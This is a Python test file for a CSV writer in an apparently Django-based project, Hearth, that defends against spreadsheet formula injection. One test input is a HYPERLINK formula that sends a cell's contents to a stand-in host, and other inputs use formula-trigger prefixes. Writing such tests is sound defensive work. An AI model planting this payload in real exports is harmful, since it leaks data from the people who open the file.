"""Issue 13 item 6: formula injection. Every CSV Hearth writes goes through one writer,
``hearth.core.safe_csv``, which neutralises every cell a spreadsheet could run as a formula
(OWASP "CSV Injection": a leading single quote)."""

from __future__ import annotations

import ast
import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from django.utils import timezone

import hearth
from hearth.core import safe_csv

SRC = Path(hearth.__file__).parent


def written(*rows) -> list[list[str]]:
    out = io.StringIO()
    safe_csv.writer(out).writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Click")', "+44 7700 900123", "-2+3",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
])
def test_issue_13_item_6_a_cell_that_could_start_a_formula_is_neutralised(cell):
    assert written(["Kerry", cell]) == [["Kerry", "'" + cell]]


def test_issue_13_item_6_ordinary_text_numbers_dates_and_blanks_are_written_as_they_are():
    day = timezone.localdate() - timedelta(days=15)
    rows = written(["Kerry Fletcher", "Said \"no\", then left", -3, 2.5, day, None, "a = b"])
    assert rows == [["Kerry Fletcher", "Said \"no\", then left", "-3", "2.5", day.isoformat(),
                     "", "a = b"]]


def test_issue_13_item_6_nothing_else_in_hearth_writes_csv():
    """Every CSV Hearth writes goes through the one writer: no other module imports ``csv``."""
    others = []
    for path in sorted(SRC.rglob("*.py")):
        if path == SRC / "core" / "safe_csv.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            if any(name == "csv" or name.startswith("csv.") for name in names):
                others.append(str(path.relative_to(SRC)))
    assert others == [], f"Write CSV through hearth.core.safe_csv instead: {others}"
